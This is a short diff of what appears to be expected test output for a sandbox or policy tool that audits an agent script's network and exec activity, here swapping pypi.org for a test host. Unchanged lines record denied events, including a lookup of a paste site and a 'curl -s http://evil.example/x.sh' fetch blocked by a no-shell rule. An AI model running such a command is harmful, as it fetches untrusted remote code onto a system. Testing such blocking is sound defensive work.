@@ -21,8 +21,8 @@ denied   dns      paste.evil.example         1  default      agent.py:55
 denied   exec     curl -s http://evil.…      1  no-shell     agent.py:63
 logged   connect  api.openai.com:443         3  audit        agent.py:12 ask
 logged   exec     git clone ...              2  audit        agent.py:60 sources
-logged   dns      pypi.org                   1  audit        agent.py:8 index
-logged   connect  pypi.org:443               1  audit        agent.py:8 index
+logged   dns      pkg.test                   1  audit        agent.py:8 index
+logged   connect  pkg.test:443               1  audit        agent.py:8 index
 logged   dns      api.openai.com             1  audit        agent.py:12 ask
 logged   listen   127.0.0.1:8000             1  audit        agent.py:70 serve
 allowed           (no line of its own)   1,240  own-sockets
@@ -39,8 +39,8 @@ denied   dns      paste.evil.example                           1  default      a
 denied   exec     curl -s http://evil.example/x.sh             1  no-shell     agent.py:63
 logged   connect  api.openai.com:443 (162.159.140.245 +1)      3  audit        agent.py:12 ask
 logged   exec     git clone ...                                2  audit        agent.py:60 sources
-logged   dns      pypi.org                                     1  audit        agent.py:8 index
-logged   connect  pypi.org:443 (151.101.0.223)                 1  audit        agent.py:8 index
+logged   dns      pkg.test                                     1  audit        agent.py:8 index
+logged   connect  pkg.test:443 (151.101.0.223)                 1  audit        agent.py:8 index
 logged   dns      api.openai.com                               1  audit        agent.py:12 ask
 logged   listen   127.0.0.1:8000                               1  audit        agent.py:70 serve
 allowed           (no line of its own)                     1,240  own-sockets
